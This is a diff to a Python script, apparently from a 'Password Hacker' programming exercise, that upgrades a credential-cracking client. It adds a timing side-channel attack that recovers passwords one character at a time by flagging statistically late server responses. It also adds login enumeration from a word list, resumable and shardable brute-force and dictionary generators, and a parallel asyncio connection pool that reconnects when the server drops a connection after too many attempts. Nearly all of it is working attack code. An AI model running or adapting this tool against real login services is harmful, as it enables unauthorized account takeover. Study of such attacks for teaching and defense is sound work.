@@ -1,3 +1,4 @@
+import asyncio
 import socket
 import string
 import sys
@@ -5,29 +6,17 @@ import json
 import logging
 import time
 
-from math import floor
+from statistics import median
 from dataclasses import dataclass, asdict
 from enum import Enum
-from itertools import product, combinations
-from typing import Iterable, Optional
+from itertools import islice, product
+from typing import Callable, Iterable, Iterator, Optional
 
 args = sys.argv
 
-# I run several tests to estimate the precision of the response time which are around than 10**-04
-# With a precision of 3, I nullify normal response time and can detect anormal response time
-#  I could check in test code to know that the delay is 0.1s but that could be unfair,
-#  I could also detect some outlier but that could be overengineering for the exercise,
-#  so the solution chosen is this empirical solution
-PRECISION_DIGIT = 3
+# Response times in milliseconds of all the requests sent, the baseline of the TimingClassifier
 response_time = []
 
-logging.basicConfig(
-    filename="log.log",
-    filemode="w",
-    format='%(asctime)s - %(levelname)s - %(message)s',
-    level=logging.INFO,
-)
-
 LOCAL_PATH = r"Password Hacker with Python\task\hacking"
 
 
@@ -56,60 +45,169 @@ class Credentials:
     password: str
 
 
+class TimingClassifier:
+    """
+    Tells if a response time is abnormally long compared to the response times already collected.
+    The baseline is the median of the latest response times and the spread is their median absolute deviation,
+    neither is moved by the few late responses among them.
+    Once a late response is confirmed, the next ones must also be closer to the late response times than to
+    the baseline, which rules out the jitters of the network much smaller than the delay of the server.
+    """
+
+    def __init__(self, samples: list[float], threshold=10.0, min_samples=20, window=500, min_spread=0.5,
+                 confirmations=1) -> None:
+        self.samples = samples
+        # number of spreads above the baseline for a response time to be abnormal
+        self.threshold = threshold
+        # times an abnormal response is sent again, it is kept only if all its response times are abnormal
+        self.confirmations = confirmations
+        self.min_samples = min_samples
+        self.window = window
+        # in milliseconds, so identical response times do not make every small jitter abnormal
+        self.min_spread = min_spread
+        self.late_samples = []
+
+    @property
+    def ready(self) -> bool:
+        return len(self.samples) >= self.min_samples
+
+    def baseline(self) -> tuple[float, float]:
+        latest = self.samples[-self.window:]
+        middle = median(latest)
+        # 1.4826 makes the median absolute deviation a standard deviation for a normal distribution
+        spread = 1.4826 * median(abs(sample - middle) for sample in latest)
+        return middle, max(spread, self.min_spread)
+
+    def score(self, elapsed_time: float) -> float:
+        middle, spread = self.baseline()
+        return (elapsed_time - middle) / spread
+
+    def is_outlier(self, elapsed_time: float) -> bool:
+        if not self.ready or self.score(elapsed_time) <= self.threshold:
+            return False
+        if not self.late_samples:
+            return True
+        middle, _ = self.baseline()
+        return elapsed_time > (middle + median(self.late_samples)) / 2
+
+    def is_late(self, elapsed_times: list[float]) -> bool:
+        """Tells if all the response times of the same request are abnormal, they are kept as late ones if so"""
+        if not all(self.is_outlier(elapsed_time) for elapsed_time in elapsed_times):
+            return False
+        self.late_samples.extend(elapsed_times)
+        return True
+
+
 class PasswordGenerator:
     """
     Class responsible for creating iterator of passwords based on a specified method.
+    The passwords of a method always come in the same order, so an iteration can be resumed from the position
+    of its last password, and the passwords can be shared between workers by taking one password out of count.
     """
 
     def __init__(self, max_length=8, filename="passwords.txt") -> None:
         self.max_length = max_length
         self.filename = filename
+        # index of the password following the last one given by generator, to resume from
+        self.position = 0
 
-    def __generate_by_brute_force(self) -> Iterable[str]:
+    def __generate_by_brute_force(self, start: int) -> Iterable[str]:
         choice = string.ascii_lowercase + string.digits
         for i in range(1, self.max_length + 1):
-            for pwd in product(choice, repeat=i):
-                yield ''.join(pwd)
-
-    def __read_from_files(self) -> list[str]:
+            if start >= len(choice) ** i:
+                start -= len(choice) ** i
+                continue
+            yield from self.__product_from(choice, i, start)
+            start = 0
+
+    @staticmethod
+    def __product_from(choice: str, length: int, start: int) -> Iterable[str]:
+        """The passwords of product(choice, repeat=length) from the index start, without going through the others"""
+        digits = []
+        for _ in range(length):
+            start, digit = divmod(start, len(choice))
+            digits.append(digit)
+        digits.reverse()
+        # The password at start with its following ones for the last character, then for each character
+        # from the end, the next values of this character followed by all the possible endings
+        for i in range(length - 1, -1, -1):
+            prefix = ''.join(choice[digit] for digit in digits[:i])
+            first = digits[i] if i == length - 1 else digits[i] + 1
+            for c in choice[first:]:
+                for end in product(choice, repeat=length - i - 1):
+                    yield prefix + c + ''.join(end)
+
+    def __read_from_files(self) -> Iterable[str]:
         try:
             with open(self.filename) as f:
-                return [line.strip() for line in f if line.strip()]
+                for line in f:
+                    if line.strip():
+                        yield line.strip()
         except FileNotFoundError:
             print(f"File '{self.filename}' not found.")
-            return []
-
-    def __create_case_variations(self, password) -> Iterable[str]:
-        list_index = [i for i in range(len(password))]
-        for i in range(len(password) + 1):
-            for combi in combinations(list_index, i):
-                new_password = list(password)
-                for index in combi:
-                    new_password[index] = new_password[index].upper()
-                yield ''.join(new_password)
-
-    def __generate_by_dictionary(self) -> Iterable[str]:
-        list_password = self.__read_from_files()
-        for password in list_password:
-            yield from self.__create_case_variations(password)
-
-    def __generate_by_characters(self, begin_pwd: str) -> Iterable[str]:
+
+    @staticmethod
+    def __count_case_variations(password: str) -> int:
+        return 1 << sum(c.upper() != c for c in password)
+
+    @staticmethod
+    def __create_case_variations(password: str, start=0) -> Iterable[str]:
+        """
+        The variations are the bits of a mask over the characters having an upper case, in the order of the Gray code
+        so each variation changes one character of the previous one.
+        """
+        cased = [i for i, c in enumerate(password) if c.upper() != c]
+        new_password = list(password)
+        mask = start ^ (start >> 1)
+        for bit, index in enumerate(cased):
+            if mask >> bit & 1:
+                new_password[index] = password[index].upper()
+        yield ''.join(new_password)
+        for i in range(start + 1, 1 << len(cased)):
+            # the bit changing between the Gray codes of i - 1 and i is the lowest bit set of i
+            index = cased[(i & -i).bit_length() - 1]
+            new_password[index] = password[index] if new_password[index] != password[index] \
+                else password[index].upper()
+            yield ''.join(new_password)
+
+    def __generate_by_dictionary(self, start: int) -> Iterable[str]:
+        for password in self.__read_from_files():
+            count = self.__count_case_variations(password)
+            if start >= count:
+                start -= count
+                continue
+            yield from self.__create_case_variations(password, start)
+            start = 0
+
+    def __generate_by_characters(self, begin_pwd: str, start: int) -> Iterable[str]:
         char_list = string.ascii_lowercase + string.ascii_uppercase + string.digits
-        for c in char_list:
+        for c in char_list[start:]:
             yield begin_pwd + c
 
     def generator(self, **kwargs) -> Iterable[str]:
+        """
+        Passwords of the method from the index start, the position after the last password given is kept
+        in position. With shard=(index, count), only the passwords at an index equal to index modulo count are
+        given, so count workers with each their index share all the passwords without any in common.
+        """
         password_generator = None
         method = kwargs.get("method", GeneratorMethod.BruteForce)
         begin_char = kwargs.get("begin_char", "")
+        start = kwargs.get("start", 0)
+        shard, shard_count = kwargs.get("shard", (0, 1))
+        # first index of the shard from start
+        start += (shard - start) % shard_count
         match method:
             case GeneratorMethod.BruteForce:
                 password_generator = self.__generate_by_brute_force
             case GeneratorMethod.Dictionary:
                 password_generator = self.__generate_by_dictionary
             case GeneratorMethod.BruteForceByCharacters:
-                password_generator = lambda : self.__generate_by_characters(begin_char)
-        yield from password_generator()
+                password_generator = lambda first: self.__generate_by_characters(begin_char, first)
+        self.position = start
+        for password in islice(password_generator(start), 0, None, shard_count):
+            self.position += shard_count
+            yield password
 
 
 def catch_result(data) -> NetworkMessage:
@@ -127,28 +225,32 @@ def catch_result(data) -> NetworkMessage:
         return network_message
 
 
+def read_logins() -> list[str]:
+    with open(r"logins.txt") as f:
+        list_login = [line.strip() for line in f if line.strip()]
+        logging.debug(f"List of logins: {list_login}")
+    return list_login
+
+
 def login_attack(socket) -> Optional[str]:
     """
     Try to discover login from login.txt file.
     Can raise FileNotFoundError, NetworkError.
     """
     logging.info("Starting login attack")
-    list_login = []
     global response_time
-    with open(r"logins.txt") as f:
-        list_login = [line.strip() for line in f if line.strip()]
-        logging.debug(f"List of logins: {list_login}")
+    list_login = read_logins()
 
     for login in list_login:
         logging.debug(f"Trying login: {login}")
         data = json.dumps(asdict(Credentials(login, "12345")))
 
         logging.debug(f"Sending data: {data}")
-        start_time = time.time()
+        start_time = time.perf_counter()
         socket.send(data.encode())
         response = socket.recv(1024)
-        end_time = time.time()
-        elapsed_time = floor((end_time - start_time)* 10**PRECISION_DIGIT)
+        end_time = time.perf_counter()
+        elapsed_time = (end_time - start_time) * 1000
         response_time.append(elapsed_time)
 
         response = response.decode()
@@ -167,11 +269,41 @@ def login_attack(socket) -> Optional[str]:
     return None
 
 
+def calibration_candidates(login: str, count: int) -> Iterator[Credentials]:
+    # wrong logins, the server answers them as quickly as the wrong passwords
+    return (Credentials(f"{login}{i}!", "12345") for i in range(count))
+
+
+def send_credentials(socket, credentials: Credentials) -> tuple[NetworkMessage, float]:
+    """Gives the message of the server and its response time, which is added to response_time"""
+    data = json.dumps(asdict(credentials))
+    logging.debug(f"Sending data: {data}")
+    start_time = time.perf_counter()
+    socket.send(data.encode())
+    response = socket.recv(1024)
+    end_time = time.perf_counter()
+    elapsed_time = (end_time - start_time) * 1000
+    response_time.append(elapsed_time)
+    response = response.decode()
+    logging.debug(f"Response: {response} with response time: {elapsed_time}")
+    return catch_result(response), elapsed_time
+
+
+def calibrate(socket, classifier: TimingClassifier, login: str) -> None:
+    """Sends wrong credentials until the classifier has enough response times for its baseline"""
+    logging.info("Calibrating the response time")
+    for credentials in calibration_candidates(login, classifier.min_samples - len(classifier.samples)):
+        send_credentials(socket, credentials)
+
+
 def password_attack(socket, **kwargs) -> Optional[str]:
     login = kwargs.get("login", "admin")
     method = kwargs.get("method", GeneratorMethod.BruteForce)
     max_length = kwargs.get("max_length", 8)
+    classifier = kwargs.get("classifier") or TimingClassifier(response_time)
     logging.info("Starting password attack")
+    if not classifier.ready:
+        calibrate(socket, classifier, login)
     begin_char = ""
     while len(begin_char) < max_length:
         password_generator = PasswordGenerator().generator(method=method, begin_char=begin_char)
@@ -179,26 +311,17 @@ def password_attack(socket, **kwargs) -> Optional[str]:
 
         for password in password_generator:
             logging.debug(f"Trying password: {password}")
-            data = json.dumps(asdict(Credentials(login, password)))
-
-            start_time = time.time()
-            socket.send(data.encode())
-            response = socket.recv(1024)
-            end_time = time.time()
-            elapsed_time = floor((end_time - start_time)* 10**PRECISION_DIGIT)
-            response_time.append(elapsed_time)
-            response = response.decode()
-            logging.debug(f"Response: {response} with response time: {elapsed_time}")
-
-            network_message = catch_result(response)
+            credentials = Credentials(login, password)
+            network_message, elapsed_time = send_credentials(socket, credentials)
             match network_message:
                 case NetworkMessage.CORRECT_CONNECTION:
                     return password
                 case NetworkMessage.WRONG_PASSWORD:
-                    # with the precision, a normal request will have a response time of 0
-                    # This check can catch false positive character so can lead to guess the wrong password
-                    #  but after running some time, it captures finally the good password
-                    if elapsed_time > 0:
+                    # the server takes longer to answer when the beginning of the password is correct,
+                    # a late response is sent again to tell it from a jitter of the network
+                    if classifier.is_outlier(elapsed_time) and \
+                            classifier.is_late([elapsed_time] + [send_credentials(socket, credentials)[1]
+                                                                 for _ in range(classifier.confirmations)]):
                         logging.info(f"found next character : {password}")
                         begin_char = password
                         char_not_found = False
@@ -213,8 +336,204 @@ def password_attack(socket, **kwargs) -> Optional[str]:
     return None
 
 
+class ConnectionPool:
+    """
+    Connections opened to the server, used to try several credentials at the same time.
+    Each connection has at most one request in flight, so its response time is the one of its request alone.
+    A connection closed by the server, ie after too many attempts, is opened again.
+    """
+
+    def __init__(self, hostname: str, port: int, size: int) -> None:
+        self.hostname = hostname
+        self.port = port
+        self.size = size
+        self.connections = []
+        # connections opened again after the server closed them
+        self.reconnections = 0
+
+    async def open(self) -> None:
+        self.connections = [await self.__connect() for _ in range(self.size)]
+
+    async def __connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
+        return await asyncio.open_connection(self.hostname, self.port)
+
+    async def close(self) -> None:
+        for _, writer in self.connections:
+            writer.close()
+            try:
+                await writer.wait_closed()
+            except ConnectionError:
+                pass
+        self.connections = []
+
+    async def __aenter__(self) -> "ConnectionPool":
+        await self.open()
+        return self
+
+    async def __aexit__(self, *exc_info) -> None:
+        await self.close()
+
+    async def probe(self, candidates: Iterator[Credentials], is_result: Callable[[NetworkMessage, float], bool]) \
+            -> list[tuple[Credentials, NetworkMessage, float]]:
+        """
+        Sends the candidates over all the connections until is_result accepts a response, given its message and
+        its response time as in password_attack. The requests already in flight are read before returning,
+        so the connections can be used again, and those accepted are returned too, in the order of their responses.
+        An empty list means the candidates are exhausted, otherwise the next probe goes on with the next candidates.
+        """
+        found = []
+
+        async def worker(slot):
+            while not found:
+                credentials = next(candidates, None)
+                if credentials is None:
+                    return
+                network_message, elapsed_time = await self.__request(slot, credentials)
+                if is_result(network_message, elapsed_time):
+                    found.append((credentials, network_message, elapsed_time))
+
+        await asyncio.gather(*(worker(slot) for slot in range(len(self.connections))))
+        return found
+
+    async def request(self, credentials: Credentials) -> tuple[NetworkMessage, float]:
+        """Sends the credentials alone, over the first connection, gives the message and the response time"""
+        return await self.__request(0, credentials)
+
+    async def __request(self, slot: int, credentials: Credentials) -> tuple[NetworkMessage, float]:
+        data = json.dumps(asdict(credentials))
+        logging.debug(f"Sending data: {data}")
+        response, elapsed_time = await self.__send(*self.connections[slot], data.encode())
+        if not response:
+            # the request is sent again once over a new connection, the server closing this one too is an error
+            logging.info(f"Connection {slot} closed by the server, opening it again")
+            self.connections[slot][1].close()
+            self.connections[slot] = await self.__connect()
+            self.reconnections += 1
+            response, elapsed_time = await self.__send(*self.connections[slot], data.encode())
+            if not response:
+                raise NetworkError("Connection closed by the server.")
+        response_time.append(elapsed_time)
+        response = response.decode()
+        logging.debug(f"Response: {response} with response time: {elapsed_time}")
+        return catch_result(response), elapsed_time
+
+    @staticmethod
+    async def __send(reader, writer, data: bytes) -> tuple[bytes, float]:
+        """Gives the response, empty if the connection is closed, and its time in milliseconds"""
+        try:
+            writer.write(data)
+            await writer.drain()
+            start_time = time.perf_counter()
+            response = await reader.read(1024)
+        except ConnectionError:
+            return b"", 0.0
+        return response, (time.perf_counter() - start_time) * 1000
+
+
+async def async_login_attack(pool: ConnectionPool) -> Optional[str]:
+    """
+    login_attack over all the connections of the pool.
+    Can raise FileNotFoundError, NetworkError.
+    """
+    logging.info(f"Starting login attack over {pool.size} connections")
+    candidates = (Credentials(login, "12345") for login in read_logins())
+    result = await pool.probe(candidates, lambda message, _: message in (NetworkMessage.WRONG_PASSWORD,
+                                                                         NetworkMessage.EXCEPTION_PASSWORD,
+                                                                         NetworkMessage.BAD_REQUEST))
+    if not result:
+        return None
+    credentials, network_message, _ = result[0]
+    if network_message == NetworkMessage.BAD_REQUEST:
+        logging.error(f"Bad request send {asdict(credentials)}")
+        return None
+    return credentials.login
+
+
+async def async_password_attack(pool: ConnectionPool, **kwargs) -> Optional[str]:
+    """
+    password_attack over all the connections of the pool: the candidates for the next character are tried
+    at the same time, and the late responses are checked again alone, as they can be late only because of
+    the requests of the other connections.
+    """
+    login = kwargs.get("login", "admin")
+    method = kwargs.get("method", GeneratorMethod.BruteForce)
+    max_length = kwargs.get("max_length", 8)
+    classifier = kwargs.get("classifier") or TimingClassifier(response_time)
+    logging.info(f"Starting password attack over {pool.size} connections")
+    if not classifier.ready:
+        logging.info("Calibrating the response time")
+        await pool.probe(calibration_candidates(login, classifier.min_samples - len(classifier.samples)),
+                         lambda *_: False)
+
+    def is_result(network_message: NetworkMessage, elapsed_time: float) -> bool:
+        # as in password_attack, a wrong password answered late has a correct beginning
+        return network_message == NetworkMessage.CORRECT_CONNECTION or \
+            (network_message == NetworkMessage.WRONG_PASSWORD and classifier.is_outlier(elapsed_time))
+
+    begin_char = ""
+    while len(begin_char) < max_length:
+        password_generator = PasswordGenerator().generator(method=method, begin_char=begin_char)
+        candidates = (Credentials(login, password) for password in password_generator)
+        next_char = None
+        while next_char is None:
+            found = await pool.probe(candidates, is_result)
+            if not found:
+                logging.error(f"No new characters found for password '{begin_char}'")
+                return None
+            for credentials, network_message, _ in found:
+                if network_message == NetworkMessage.CORRECT_CONNECTION:
+                    return credentials.password
+            # the latest response is the most likely correct character
+            for credentials, _, elapsed_time in sorted(found, key=lambda result: -result[2]):
+                # checked again at least once, as the other connections could have delayed the response
+                elapsed_times = [elapsed_time]
+                for _ in range(max(1, classifier.confirmations)):
+                    network_message, elapsed_time = await pool.request(credentials)
+                    elapsed_times.append(elapsed_time)
+                if network_message == NetworkMessage.WRONG_PASSWORD and classifier.is_late(elapsed_times):
+                    next_char = credentials.password
+                    break
+                logging.debug(f"False positive character : {credentials.password}")
+        logging.info(f"found next character : {next_char}")
+        begin_char = next_char
+    return None
+
+
+async def async_attack(hostname: str, port: int, connections: int,
+                       method=GeneratorMethod.BruteForceByCharacters) -> Credentials:
+    async with ConnectionPool(hostname, port, connections) as pool:
+        found_login = await async_login_attack(pool)
+        logging.info(f"Found login: {found_login}")
+        password = await async_password_attack(pool, login=found_login, method=method)
+    return Credentials(found_login, password)
+
+
 if __name__ == "__main__":
+    # only the script writes the log, importing hack from server.py or benchmark.py leaves log.log untouched
+    logging.basicConfig(
+        filename="log.log",
+        filemode="w",
+        format='%(asctime)s - %(levelname)s - %(message)s',
+        level=logging.INFO,
+    )
     hostname, port = args[1], int(args[2])
+    # with a number of connections, the attack tries the candidates over that many connections at the same time
+    connections = int(args[3]) if len(args) > 3 else 1
+
+    if connections > 1:
+        try:
+            credentials = asyncio.run(async_attack(hostname, port, connections))
+        except FileNotFoundError:
+            logging.error("File 'login.txt' not found.")
+            exit(1)
+        except NetworkError:
+            logging.error("Wrong response format.")
+            exit(1)
+        except Exception as e:
+            logging.error(f"Unknown error: {e}")
+        else:
+            print(json.dumps(asdict(credentials)))
+        exit(0)
 
     with socket.socket() as client_socket:
         address = (hostname, port)